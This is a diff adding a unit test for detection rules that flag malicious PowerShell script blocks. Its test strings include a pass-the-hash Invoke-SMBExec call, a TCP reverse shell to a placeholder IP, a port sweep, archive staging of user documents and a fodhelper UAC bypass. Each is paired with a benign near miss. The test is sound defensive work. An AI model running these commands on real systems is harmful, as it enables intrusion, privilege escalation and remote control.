@@ -1026,6 +1026,23 @@ describe('built-in Windows rules', () => {
     expect(titlesOf(bare(9, `${S32}notepad.exe`))).toEqual([]);
   });
 
+  it('script blocks: pass-the-hash execution functions, TCP reverse shells and port sweeps, Compress-Archive, UAC bypass handlers; near misses are not', () => {
+    const sb = (t: number, text: string): ReturnType<typeof makeEvent> => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
+    const PTH = 'Pass-The-Hash Remote Execution Functions In A Script Block (4104)';
+    expect(hits([sb(1, 'Invoke-SMBExec -Target 10.0.0.5 -Username admin -Hash 31d6cfe0d16ae931b73c59d7e0c089c0 -Command "cmd"')]).get(PTH)).toEqual({ level: 'high', tactics: ['stealth', 'lateral-movement'] });
+    expect(titlesOf(sb(2, 'Invoke-Command -ComputerName SRV02 -ScriptBlock { hostname }'))).not.toContain(PTH);
+    const REV = 'TCP Reverse Shell In A Script Block (4104)';
+    expect(hits([sb(3, '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.5",443); $s = $c.GetStream(); while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $o = (iex $d 2>&1 | Out-String) }')]).get(REV)).toEqual({ level: 'high', tactics: ['execution', 'command-and-control'] });
+    expect(titlesOf(sb(4, '$c = New-Object System.Net.Sockets.TcpClient; $c.Connect("db01", 1433); $c.Close()'))).not.toContain(REV);
+    const SCAN = 'TCP Port Or Host Sweep In A Script Block (4104)';
+    expect(hits([sb(5, '1..1024 | % { $t = New-Object Net.Sockets.TcpClient; $t.Connect("10.0.0.5", $_) }')]).get(SCAN)).toEqual({ level: 'medium', tactics: ['discovery'] });
+    expect(titlesOf(sb(6, 'Test-NetConnection -ComputerName db01 -Port 1433'))).not.toContain(SCAN);
+    expect(hits([sb(7, 'Compress-Archive -Path C:\\Users\\bob\\Documents\\* -DestinationPath C:\\Users\\Public\\d.zip')]).get('Files Archived With Compress-Archive In A Script Block (4104)')).toEqual({ level: 'informational', tactics: ['collection'] });
+    const UAC = 'UAC Bypass Handler Written In A Script Block (4104)';
+    expect(hits([sb(8, 'New-Item "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Force; Set-ItemProperty "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Name DelegateExecute -Value ""; Start-Process fodhelper.exe')]).get(UAC)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
+    expect(titlesOf(sb(9, 'Get-ItemProperty "HKCU:\\Software\\Classes\\.txt"'))).not.toContain(UAC);
+  });
+
   const crate = path.join(corpora, 'evtx', 'evtx-crate');
   it.skipIf(!existsSync(crate))('the benign captures give no high or critical built-in hit', () => {
     const files = readdirSync(crate).filter((f) => f.endsWith('.evtx'));
